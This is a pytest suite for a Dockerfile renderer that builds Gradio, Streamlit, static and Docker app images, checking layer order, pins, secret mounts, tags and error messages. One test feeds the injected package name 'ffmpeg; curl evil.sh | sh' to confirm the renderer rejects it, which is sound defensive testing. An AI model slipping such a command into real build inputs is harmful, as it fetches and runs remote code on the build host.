"""Dockerfile rendering, image tags and build-failure messages: pure, table-driven, no engine needed."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from spaces.builder.dockerfile import DockerfileError, DockerfileOptions, choose_base, render
from spaces.builder.hooks import dockerfile_step
from spaces.builder.image import build_digest, failure_message, image_tag
from spaces.builder.plan import BuildPlan

GRADIO = BuildPlan(sdk="gradio", python_version="3.11", sdk_version="6.31.0", app_file="app.py", app_port=7860,
                   requirements="numpy\n")
STREAMLIT = BuildPlan(sdk="streamlit", python_version="3.11", sdk_version="1.67.0", app_file="src/app.py",
                      app_port=8501)


def lines_of(text: str) -> list[str]:
    return [line for line in text.splitlines() if line and not line.startswith(" ")]


def index_of(lines: list[str], prefix: str) -> int:
    return next(i for i, line in enumerate(lines) if line.startswith(prefix))


@pytest.mark.parametrize("plan, expected", [
    (GRADIO, ["FROM spaces/base-python:3.11", "USER user", "WORKDIR /home/user/app",
              "COPY --chown=user requirements.txt /tmp/deps/requirements.txt",
              "COPY --chown=user . /home/user/app", 'CMD ["python", "app.py"]', "EXPOSE 7860"]),
    (STREAMLIT, ["COPY --chown=user . /home/user/app", "EXPOSE 8501"]),
])
def test_python_sdks_have_the_expected_lines(plan: BuildPlan, expected: list[str]) -> None:
    text = render(plan).text
    for line in expected:
        assert line in text.splitlines(), line
    assert "# syntax=" not in text  # would make BuildKit pull a frontend image from a registry


@pytest.mark.parametrize("plan", [GRADIO, STREAMLIT])
def test_dependencies_are_installed_before_the_code_is_copied(plan: BuildPlan) -> None:
    lines = lines_of(render(plan).text)
    install = max(i for i, line in enumerate(lines) if line.startswith("RUN --mount"))
    assert install < index_of(lines, "COPY --chown=user . ")
    assert lines[-1].startswith("CMD ")


@pytest.mark.parametrize("plan, pin", [
    (GRADIO, '"gradio==6.31.0" spaces'),  # gradio images get HF's `spaces` package beside the SDK
    (STREAMLIT, '"streamlit==1.67.0"'),
    (BuildPlan(sdk="gradio", python_version="3.11", sdk_version=None, app_file="app.py", app_port=7860),
     "gradio spaces"),
])
def test_the_sdk_pin_is_installed_with_the_requirements(plan: BuildPlan, pin: str) -> None:
    text = render(plan).text
    install = [line for line in text.splitlines() if "uv pip install" in line]
    assert install and all(line.rstrip("; \\").endswith(pin) for line in install)
    if plan.requirements:
        assert f"-r /tmp/deps/requirements.txt {pin}" in text


def test_no_requirements_means_no_copy_of_a_missing_file() -> None:
    plan = BuildPlan(sdk="gradio", python_version="3.11", sdk_version="6.31.0", app_file="app.py", app_port=7860)
    text = render(plan).text
    assert "requirements.txt" not in text
    assert "pip install" in text


def test_pre_requirements_are_installed_first_in_their_own_layer() -> None:
    plan = BuildPlan(sdk="gradio", python_version="3.11", sdk_version="6.31.0", app_file="app.py", app_port=7860,
                     requirements="numpy\n", pre_requirements="pip>=24\n")
    lines = lines_of(render(plan).text)
    pre = index_of(lines, "COPY --chown=user pre-requirements.txt")
    req = index_of(lines, "COPY --chown=user requirements.txt")
    assert pre < req
    assert lines[pre + 1].startswith("RUN --mount") and lines[req + 1].startswith("RUN --mount")


def test_system_packages_come_first_and_bad_names_are_refused() -> None:
    plan = BuildPlan(sdk="gradio", python_version="3.11", sdk_version="6.31.0", app_file="app.py", app_port=7860,
                     system_packages=("ffmpeg", "libgl1", "# a comment", ""))
    text = render(plan).text
    assert "apt-get install -y --no-install-recommends ffmpeg libgl1 " in text
    lines = lines_of(text)
    assert index_of(lines, "RUN apt-get update") < index_of(lines, "USER user")
    bad = BuildPlan(sdk="gradio", python_version="3.11", sdk_version="6.31.0", app_file="app.py", app_port=7860,
                    system_packages=("ffmpeg; curl evil.sh | sh",))
    with pytest.raises(DockerfileError, match="packages.txt"):
        render(bad)


def test_installs_mount_the_ca_and_index_as_secrets_not_args() -> None:
    text = render(GRADIO).text
    assert "--mount=type=secret,id=spaces_ca" in text and "--mount=type=secret,id=spaces_index_url" in text
    assert "ARG " not in text
    assert "--compile-bytecode" in text  # no start or wake ever compiles bytecode


def test_gradio_and_streamlit_commands_and_environment() -> None:
    gradio = render(GRADIO).text
    assert 'GRADIO_SERVER_NAME="0.0.0.0"' in gradio and 'GRADIO_SERVER_PORT="7860"' in gradio
    streamlit = render(STREAMLIT).text
    assert ('CMD ["streamlit", "run", "src/app.py", "--server.port", "8501", "--server.address", "0.0.0.0", '
            '"--server.headless", "true"') in streamlit


@pytest.mark.parametrize("app_file, directory", [("index.html", "/home/user/app"),
                                                  ("dist/index.html", "/home/user/app/dist")])
def test_static_serves_the_app_files_folder(app_file: str, directory: str) -> None:
    plan = BuildPlan(sdk="static", python_version="", sdk_version=None, app_file=app_file, app_port=8000)
    text = render(plan).text
    assert '"http.server", "8000"' in text and f'"--directory", "{directory}"]' in text
    assert "pip install" not in text


def test_docker_sdk_uses_the_repos_dockerfile_as_is() -> None:
    own = "FROM spaces/base-python:3.11\nRUN echo hi\n"
    plan = BuildPlan(sdk="docker", python_version="", sdk_version=None, app_file=None, app_port=7860,
                     dockerfile=own)
    assert render(plan).text == own
    with pytest.raises(DockerfileError, match="no Dockerfile"):
        render(BuildPlan(sdk="docker", python_version="", sdk_version=None, app_file=None, app_port=7860))


@pytest.mark.parametrize("wanted, image, noted", [
    ("3.11", "spaces/base-python:3.11", False),
    ("3.11.7", "spaces/base-python:3.11", False),
    ("3.12", "spaces/base-python:3.12", False),
    ("3.10", "spaces/base-python:3.11", True),
])
def test_base_image_by_python_version(wanted: str, image: str, noted: bool) -> None:
    options = DockerfileOptions(base_images={"3.11": "spaces/base-python:3.11", "3.12": "spaces/base-python:3.12"})
    got, note = choose_base(wanted, options)
    assert got == image
    assert (note is not None) == noted
    if noted:
        assert "3.10" in note and "3.11, 3.12" in note


def test_unknown_sdk_is_a_clear_error() -> None:
    with pytest.raises(DockerfileError, match="Unknown SDK 'shiny'"):
        render(BuildPlan(sdk="shiny", python_version="3.11", sdk_version=None, app_file="app.R",  # type: ignore[arg-type]
                         app_port=7860))


@pytest.mark.parametrize("space_id, tag", [
    ("alice/hello", "spaces/alice-hello:0123456789ab-digestdigest"),
    ("Alice/Hello_World..x", "spaces/alice-hello_world..x:0123456789ab-digestdigest"),
    ("///", "spaces/space:0123456789ab-digestdigest"),
])
def test_image_tags_are_valid_references(space_id: str, tag: str) -> None:
    assert image_tag("spaces", space_id, "0123456789abcdef", "digestdigest00") == tag


def test_digest_ignores_reasons_but_not_dependencies() -> None:
    text = render(GRADIO).text
    same = BuildPlan(**{**GRADIO.to_json(), "reasons": ("sdk from README",), "system_packages": ()})
    other = BuildPlan(**{**GRADIO.to_json(), "requirements": "pandas\n", "reasons": (), "system_packages": ()})
    assert build_digest(GRADIO, text) == build_digest(same, text)
    assert build_digest(GRADIO, text) != build_digest(other, render(other).text)


PIP_FAILURE = """#8 [stage-0 4/5] RUN --mount=type=secret,id=spaces_ca,uid=1000 uv pip install -r /tmp/deps/requirements.txt
#8 0.512 Using Python 3.11.2 environment at: /opt/venv
#8 1.204   × No solution found when resolving dependencies:
#8 1.204   ╰─▶ Because there is no version of no-such-package-zz==9.9 and you require
#8 1.204       no-such-package-zz==9.9, we can conclude that your requirements are unsatisfiable.
#8 ERROR: executor failed running [/bin/sh -c uv pip install]: exit code: 1
------
 > [stage-0 4/5] RUN uv pip install:
------
error: failed to solve: executor failed running [/bin/sh -c uv pip install]: exit code: 1"""


def _steps(output: str) -> tuple[dict[str, list[str]], list[str]]:
    steps: dict[str, list[str]] = {}
    for line in output.splitlines():
        if line.startswith("#"):
            num, _, rest = line[1:].partition(" ")
            steps.setdefault(num, []).append(rest)
    return steps, output.splitlines()


def test_failure_message_names_the_step_and_its_error_line() -> None:
    message = failure_message(*_steps(PIP_FAILURE))
    assert message.startswith("Docker build failed at `RUN --mount=type=secret,id=spaces_ca")
    assert "× No solution found when resolving dependencies:" in message
    assert "no version of no-such-package-zz==9.9" in message


def test_failure_message_without_steps_quotes_the_last_line() -> None:
    message = failure_message({}, ["", "error: failed to read dockerfile: no such file", ""])
    assert message == "Docker build failed: error: failed to read dockerfile: no such file"


def test_gradio_images_get_the_start_up_hook_before_anything_else_is_installed() -> None:
    gradio = lines_of(render(GRADIO, DockerfileOptions()).text)
    hook = index_of(gradio, 'RUN ["/opt/venv/bin/python", "-c"')
    assert hook < index_of(gradio, "COPY --chown=user requirements.txt")
    assert not [line for line in lines_of(render(STREAMLIT, DockerfileOptions()).text) if "_spaces_platform" in line]


def test_the_hook_step_installs_a_working_hook(tmp_path) -> None:  # noqa: ANN001
    """Run the step's exact command against a fresh virtual environment: the hook is written, compiled, and
    installed at the next interpreter start."""
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(tmp_path / "v")], check=True)
    python = str(tmp_path / "v" / "bin" / "python")
    step = dockerfile_step("gradio", python)
    assert step is not None and step.startswith("RUN [")
    subprocess.run(json.loads(step[4:]), check=True)
    assert list(tmp_path.glob("v/lib/python*/site-packages/__pycache__/_spaces_platform.*.pyc"))
    out = subprocess.run([python, "-c", "import sys; print([type(f).__name__ for f in sys.meta_path][0])"],
                         capture_output=True, text=True, check=True).stdout.strip()
    assert out == "GradioHook"


def test_preloaded_files_are_copied_into_the_app_users_cache_before_the_code() -> None:
    from spaces.builder.dockerfile import with_preload

    lines = lines_of(with_preload(render(GRADIO).text, "gradio", "spaces/preload:abc"))
    copy = "COPY --from=spaces/preload:abc --chown=1000:1000 / /home/user/.cache/huggingface/hub/"
    assert index_of(lines, copy) == index_of(lines, "COPY --chown=user . /home/user/app") - 1
    own = BuildPlan(sdk="docker", python_version="", sdk_version=None, app_file=None, app_port=7860,
                    dockerfile="FROM python:3.11\nCMD [\"python\", \"app.py\"]")
    assert lines_of(with_preload(render(own).text, "docker", "spaces/preload:abc"))[-1] == copy
    # the digest (the image tag) changes with the preload folder, so a new model revision is a new image
    assert build_digest(GRADIO, with_preload(render(GRADIO).text, "gradio", "spaces/preload:abc")) != \
        build_digest(GRADIO, with_preload(render(GRADIO).text, "gradio", "spaces/preload:def"))
